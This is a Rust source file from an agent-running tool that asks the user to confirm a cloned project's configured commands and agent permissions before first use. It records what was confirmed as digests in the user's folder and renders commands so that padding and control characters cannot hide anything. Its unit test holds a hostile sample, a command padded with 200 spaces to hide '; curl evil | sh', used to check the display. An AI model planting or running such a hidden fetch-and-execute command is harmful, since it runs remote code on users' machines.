//! Commands that come with a project, and what it lets the agent do, are shown and confirmed before they are used for the
//! first time: whoever clones a project has not read its configuration. What was confirmed is kept in the user's own folder,
//! not in the project.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use ralph_model::config::{Agent, CommandLine, Config, Permissions};
use ralph_notes::{Patches, create_folder, read_file};
use sha2::{Digest, Sha256};

use crate::changed_file::change_file;
use crate::context::{Context, read_config};
use crate::env;
use crate::error::CommandError;
use crate::paths;

/// So many blanks in a row are shown as their number: they may push what follows out of sight.
const LONG_GAP: usize = 4;

/// What was confirmed: for every project the digests of its commands.
type Confirmed = BTreeMap<String, Vec<String>>;

/// Asks for the commands of the configuration, unless they were confirmed before or the person says so now.
pub(super) fn confirm_commands(context: &Context<'_>, uses_agent: bool, trust: bool) -> Result<(), CommandError> {
    let Some(config) = config_of_file(context)? else {
        return Ok(());
    };
    let commands = terms(&config, uses_agent);
    if commands.is_empty() {
        return Ok(());
    }
    let store = confirmed_file()?;
    if is_confirmed(context, &store, &[&commands])? {
        return Ok(());
    }
    if !trust {
        ask(
            context,
            &commands,
            "the same command with --trust confirms it, until it changes",
        )?;
    }
    remember(context, &store, &digest(&commands))
}

/// Asks for the agent of the configuration alone, before it is only looked at. Whoever confirmed a run has confirmed that too.
pub(crate) fn confirm_agent(context: &Context<'_>) -> Result<(), CommandError> {
    let Some(mut config) = config_of_file(context)? else {
        return Ok(());
    };
    let of_a_run = terms(&config, true);
    // It is told to do nothing, and no gate is run.
    config.verify.commands.clear();
    config.verify.verifier = None;
    config.agent.permissions = Permissions::default();
    let of_the_agent = terms(&config, true);
    if of_the_agent.is_empty() {
        return Ok(());
    }
    let store = confirmed_file()?;
    if is_confirmed(context, &store, &[&of_the_agent, &of_a_run])? {
        return Ok(());
    }
    let hint = "`ralph doctor --agent` asks at a terminal; `ralph run --trust` confirms it with the whole run";
    ask(context, &of_the_agent, hint)?;
    remember(context, &store, &digest(&of_the_agent))
}

/// Whether one of these was confirmed for this project.
fn is_confirmed(context: &Context<'_>, store: &Path, any: &[&[String]]) -> Result<bool, CommandError> {
    let known = read(store)?;
    let digests = known.get(&name(context)).map(Vec::as_slice).unwrap_or_default();
    Ok(any.iter().any(|terms| digests.contains(&digest(terms))))
}

/// What a project is called where it is kept what was confirmed.
fn name(context: &Context<'_>) -> String {
    context.project.root.to_string_lossy().into_owned()
}

fn ask(context: &Context<'_>, commands: &[String], hint: &str) -> Result<(), CommandError> {
    let ui = context.ui;
    ui.status(&format!("{} says what will be run here:", paths::CONFIG));
    for command in commands {
        ui.status(&format!("  {}", shown(command)));
    }
    match ui.confirm("Run them?")? {
        Some(true) => Ok(()),
        Some(false) => Err(CommandError::new("it was not confirmed, so nothing was started")),
        None => Err(CommandError::new(
            "this was never confirmed, and there is no terminal to ask at; nothing was started",
        )
        .hint(hint)),
    }
}

/// What the project's own file says; what the environment and flags say is the person's.
fn config_of_file(context: &Context<'_>) -> Result<Option<Config>, CommandError> {
    let Some(text) = read_config(&context.project)? else {
        return Ok(None);
    };
    let loaded = Config::load(Some((paths::CONFIG, &text)), &|_| None)?;
    Ok(Some(loaded.config))
}

/// The commands of a configuration, and all that it says about the agent and is not so by itself.
fn terms(config: &Config, uses_agent: bool) -> Vec<String> {
    let (agent, usual) = (&config.agent, Agent::default());
    let command = agent.command.as_ref().filter(|_| uses_agent);
    let mut terms: Vec<String> = command
        .map(|command| format!("agent: {}", spelled(command)))
        .into_iter()
        .collect();
    // An agent that asks nobody runs whatever it likes, which is as much as any command.
    if agent.permissions == Permissions::Full {
        terms.push("agent: may do everything without asking (permissions = \"full\")".to_owned());
    }
    terms.extend(config.verify.commands.iter().map(|gate| format!("gate: {gate}")));
    let verifier = config.verify.verifier.as_ref();
    terms.extend(verifier.map(|command| format!("verifier: {}", spelled(command))));
    // By themselves these start nothing and permit nothing.
    if !terms.is_empty() {
        terms.extend(agent.kind.map(|kind| format!("kind of agent: {kind}")));
        if agent.env != usual.env {
            terms.push(format!("environment of the agent: {}", agent.env));
        }
    }
    terms
}

/// A command line so that one with another meaning is never spelled the same.
fn spelled(command: &CommandLine) -> String {
    let is_plain = |sign: char| sign.is_ascii_alphanumeric() || "-_./=:,+@%".contains(sign);
    let quoted = |word: &String| match word.chars().all(is_plain) && !word.is_empty() {
        true => word.clone(),
        false => format!("{word:?}"),
    };
    match command {
        CommandLine::Line(line) => line.clone(),
        CommandLine::Words(words) => words.iter().map(quoted).collect::<Vec<_>>().join(" "),
    }
}

/// A text whole, with all in it that a terminal would not show.
fn shown(text: &str) -> String {
    let mut shown = String::new();
    let mut rest = text;
    while let Some(sign) = rest.chars().next() {
        let after = rest.trim_start_matches(' ');
        let blanks = rest.len() - after.len();
        rest = match blanks {
            LONG_GAP.. => {
                shown.push_str(&format!(" [{blanks} blanks] "));
                after
            }
            _ => {
                match sign {
                    '"' | '\'' | '\\' => shown.push(sign),
                    _ => shown.extend(sign.escape_debug()),
                }
                rest.strip_prefix(sign).unwrap_or_default()
            }
        };
    }
    shown
}

fn digest(terms: &[String]) -> String {
    let mut hasher = Sha256::new();
    for term in terms {
        // Length first, so that two lists never run together to the same text.
        hasher.update(format!("{} {term}\n", term.len()));
    }
    let digest = hasher.finalize();
    digest.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn confirmed_file() -> Result<PathBuf, CommandError> {
    let folder = env::state_folder().ok_or_else(|| {
        CommandError::new("there is no folder to remember confirmed commands in, since HOME is not set")
            .hint("set HOME or XDG_STATE_HOME")
    })?;
    Ok(folder.join("ralph").join("confirmed.json"))
}

fn read(file: &Path) -> Result<Confirmed, CommandError> {
    let text = read_file(file)?.map(|text| text.bytes).unwrap_or_default();
    // One that is broken confirms nothing; what is confirmed next is written over it.
    Ok(serde_json::from_slice(&text).unwrap_or_default())
}

fn remember(context: &Context<'_>, file: &Path, digest: &str) -> Result<(), CommandError> {
    if let Some(folder) = file.parent() {
        create_folder(folder)?;
    }
    change_file(file, &context.patience(), |bytes| {
        let mut known: Confirmed = serde_json::from_slice(bytes).unwrap_or_default();
        known.entry(name(context)).or_default().push(digest.to_owned());
        let text = serde_json::to_string_pretty(&known)?;
        Ok(Patches::whole(bytes, format!("{text}\n").into_bytes()))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_of_a_command_is_hidden() {
        let hidden = format!("cargo test{}; curl evil | sh", " ".repeat(200));
        assert_eq!(shown(&hidden), "cargo test [200 blanks] ; curl evil | sh");
        let long = "x".repeat(5000);
        assert_eq!(shown(&long), long);
        assert_eq!(
            shown("a \"b\" \\ 'grün'\r\u{1b}[2K\u{202e}\u{200b}\u{a0}\n"),
            r#"a "b" \ 'grün'\r\u{1b}[2K\u{202e}\u{200b}\u{a0}\n"#
        );
    }

    #[track_caller]
    fn terms_of(file: &str) -> Vec<String> {
        let loaded = Config::load(Some((".ralph.toml", file)), &|_| None).unwrap();
        terms(&loaded.config, true)
    }

    #[test]
    fn what_the_agent_may_do_is_shown_with_the_commands() {
        assert_eq!(
            terms_of("[agent]\npermissions = \"edit\"\nkind = \"claude\"\n"),
            [""; 0]
        );
        assert_eq!(
            terms_of("[agent]\npermissions = \"full\"\n"),
            [r#"agent: may do everything without asking (permissions = "full")"#]
        );
        let file = "[agent]\ncommand = [\"a\", \"b c\"]\nkind = \"command\"\npermissions = \"full\"\nenv = \"clean\"\n[verify]\ncommands = [\"make\"]\nverifier = \"codex -m o4\"\n";
        assert_eq!(
            terms_of(file),
            [
                r#"agent: a "b c""#,
                r#"agent: may do everything without asking (permissions = "full")"#,
                "gate: make",
                "verifier: codex -m o4",
                "kind of agent: command",
                "environment of the agent: clean",
            ]
        );
    }

    #[test]
    fn other_terms_have_another_digest() {
        let of = |file: &str| digest(&terms_of(file));
        assert_eq!(digest(&[]).len(), 64);
        assert_ne!(
            of("[agent]\ncommand = [\"a\", \"b\", \"c\"]\n"),
            of("[agent]\ncommand = [\"a\", \"b c\"]\n")
        );
        assert_ne!(
            of("[verify]\ncommands = [\"a\"]\n"),
            of("[agent]\npermissions = \"full\"\n[verify]\ncommands = [\"a\"]\n")
        );
    }
}
